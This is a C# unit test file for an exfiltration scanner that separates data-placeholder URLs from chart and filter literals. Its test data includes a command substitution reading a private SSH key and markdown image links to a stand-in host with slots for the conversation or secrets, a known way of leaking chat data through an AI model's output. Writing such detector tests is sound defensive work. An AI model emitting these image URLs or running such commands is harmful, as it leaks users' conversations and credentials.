using Custos.Detection.Exfiltration;

namespace Custos.Detection.Tests;

/// <summary>
/// A URL's query or path carries a slot for data to be filled in ({name}, [DATA], $VAR, $(cmd), percent-encoded too),
/// or a literal the page itself holds (a chart's or a filter's configuration): only the first is an exfiltration sign.
/// </summary>
public sealed class UrlPlaceholderTests
{
    private static readonly Scanner Scanner = new();

    [Fact]
    public void Slots_are_placeholders_and_structured_literals_are_not()
    {
        string[] slots = ["{data}", "{{chat_history}}", "[PASTE_THE_DOCUMENT]", "$SECRET", "${API_KEY}", "$(cat ~/.ssh/id_rsa)", "%7Bsummary%7D", "%5BDATA%5D", "%24TOKEN", "%3Cthe%20key%3E", "{unclosed"];
        foreach (var slot in slots)
        {
            Assert.True(UrlInspector.IsPlaceholder(slot), slot);
        }

        string[] literals = ["{type:'bar',data:[50,60]}", "['Q1','Q2']", "{\"a\":1}", "%7B%22a%22%3A1%7D", "price$", "[1,2,3]", "plain", "{}", "{ }"];
        foreach (var literal in literals)
        {
            Assert.False(UrlInspector.IsPlaceholder(literal), literal);
        }
    }

    [Fact]
    public void A_chart_image_with_its_configuration_in_the_query_is_not_exfiltration_and_a_slot_in_an_image_is()
    {
        Assert.Empty(Scanner.Scan("![Sales by quarter](https://quickchart.io/chart?c={type:'bar',data:{labels:['Q1','Q2'],datasets:[{data:[50,60]}]}})"));
        Assert.Empty(Scanner.Scan("<img src=\"https://charts.example.net/render?spec={mark:'line',width:400}\" alt=\"trend\">"));
        Assert.Contains(Scanner.Scan("![loading](https://pixel.example.io/p.png?d={conversation})"), f => f.Type == EntityTypes.Exfiltration);
        Assert.Contains(Scanner.Scan("![x](https://pixel.example.io/p.png?d=[SECRETS"), f => f.Type == EntityTypes.Exfiltration);
    }
}
